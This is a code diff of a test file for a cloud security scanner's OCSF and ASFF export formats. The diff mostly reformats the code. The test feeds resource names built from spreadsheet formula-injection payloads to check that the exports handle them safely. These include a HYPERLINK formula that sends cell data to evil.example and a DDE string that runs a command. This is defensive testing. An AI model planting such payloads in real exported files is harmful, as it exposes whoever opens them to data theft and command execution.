@@ -7,13 +7,17 @@ import { OCSF_VERSION, renderOcsf, toOcsf } from '../../src/reporters/ocsf.js';
 import { OcsfSchema } from '../support/ocsf-schema.js';
 import { XSS, sampleResult, undeterminedResult } from './fixtures.js';
 
-const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,1)', '\tx', 'a,b "quoted"\r\nnext line'];
+const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)', '\tx', 'a,b "quoted"\r\nnext line'];
 
 /** The sample result with hostile names and a long message on the first failure. */
 function hostileResult() {
   const r = sampleResult();
   r.findings.forEach((f, i) => {
-    f.resource = { ...f.resource, name: HOSTILE[i % HOSTILE.length], tags: { Owner: HOSTILE[(i + 1) % HOSTILE.length], [`k${'x'.repeat(200)}`]: 'v'.repeat(400) } };
+    f.resource = {
+      ...f.resource,
+      name: HOSTILE[i % HOSTILE.length],
+      tags: { Owner: HOSTILE[(i + 1) % HOSTILE.length], [`k${'x'.repeat(200)}`]: 'v'.repeat(400) },
+    };
   });
   r.findings[0].message = 'm'.repeat(5000);
   r.findings[0].title = 't'.repeat(400);
@@ -92,7 +96,13 @@ describe('OCSF export', () => {
     const byRes = (id: string) => events.find((e) => e.resource.uid.endsWith(id))!;
     const xss = byRes('sg-0001');
     expect(xss).toMatchObject({ class_uid: 2003, category_uid: 2, type_uid: 200301, severity_id: 4, status_id: 1 });
-    expect(xss.compliance).toMatchObject({ status_id: 3, status: 'Fail', control: 'test-sg-open', requirements: ['hipaa/164.312(e)(1)', 'hipaa/164.312(a)(1)'], standards: ['HIPAA Security Rule 45 CFR 164 Subpart C'] });
+    expect(xss.compliance).toMatchObject({
+      status_id: 3,
+      status: 'Fail',
+      control: 'test-sg-open',
+      requirements: ['hipaa/164.312(e)(1)', 'hipaa/164.312(a)(1)'],
+      standards: ['HIPAA Security Rule 45 CFR 164 Subpart C'],
+    });
     expect(xss.cloud).toEqual({ provider: 'AWS', account: { uid: '123456789012' }, region: 'us-east-1' });
     expect(xss.resource).toMatchObject({ name: XSS, type: 'aws.ec2.security-group', cloud_partition: 'aws' });
     expect(byRes('sg-0003')).toMatchObject({ status_id: 3, status: 'Suppressed' });
@@ -133,7 +143,8 @@ function asffProblems(f: Record<string, any>): string[] {
   if (!/^arn:(aws|aws-cn|aws-us-gov):securityhub:[a-z]{2}(-[a-z]+)+-\d:\d{12}:product\/\d{12}\/default$/.test(f.ProductArn)) p.push('ProductArn');
   for (const k of ['CreatedAt', 'UpdatedAt', 'FirstObservedAt', 'LastObservedAt']) ts(k, f[k]);
   if (!Array.isArray(f.Types) || !f.Types.length || f.Types.length > ASFF_LIMITS.types) p.push('Types');
-  for (const t of f.Types ?? []) if (!/^(Software and Configuration Checks|TTPs|Effects|Unusual Behaviors|Sensitive Data Identifications)(\/[^/]+){0,2}$/.test(t)) p.push(`Types: ${t}`);
+  for (const t of f.Types ?? [])
+    if (!/^(Software and Configuration Checks|TTPs|Effects|Unusual Behaviors|Sensitive Data Identifications)(\/[^/]+){0,2}$/.test(t)) p.push(`Types: ${t}`);
   if (!['INFORMATIONAL', 'LOW', 'MEDIUM', 'HIGH', 'CRITICAL'].includes(f.Severity?.Label)) p.push('Severity.Label');
   if (!Array.isArray(f.Resources) || !f.Resources.length || f.Resources.length > ASFF_LIMITS.resources) p.push('Resources');
   for (const [i, r] of (f.Resources ?? []).entries()) {
@@ -194,7 +205,7 @@ describe('ASFF export', () => {
     expect(findings.filter((f) => f.Compliance.Status === 'NOT_AVAILABLE')).toHaveLength(result.findings.filter((f) => f.status === 'unknown').length);
   });
 
-  it('imports a global resource (IAM) into a region the scan covered, or its partition\'s first region', () => {
+  it("imports a global resource (IAM) into a region the scan covered, or its partition's first region", () => {
     const result = sampleResult();
     const f = result.findings.find((x) => x.resource.id === 'sg-0001')!;
     f.resource = { ...f.resource, region: 'global', type: 'aws.iam.user', arn: 'arn:aws:iam::123456789012:user/ci' };
